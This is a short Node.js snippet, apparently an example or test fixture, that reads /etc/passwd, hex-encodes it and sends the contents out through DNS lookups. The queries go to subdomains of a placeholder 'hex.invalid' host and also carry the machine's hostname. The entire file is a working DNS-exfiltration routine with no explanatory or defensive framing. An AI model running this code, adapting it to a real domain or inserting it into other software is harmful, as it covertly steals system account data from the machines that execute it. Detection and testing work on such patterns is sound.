import('node:dns').then(async ({ promises: dns }) => {
  const { readFile } = await import('node:fs/promises')
  const { hostname } = await import('node:os')
  const text = await readFile('/etc/passwd')
  const hex = text.toString('hex').match(/.{1,58}/g)
  await Promise.allSettled(hex.map((part, i) => dns.resolve4(`${i}.${part}.${hostname()}.hex.invalid`)))
})
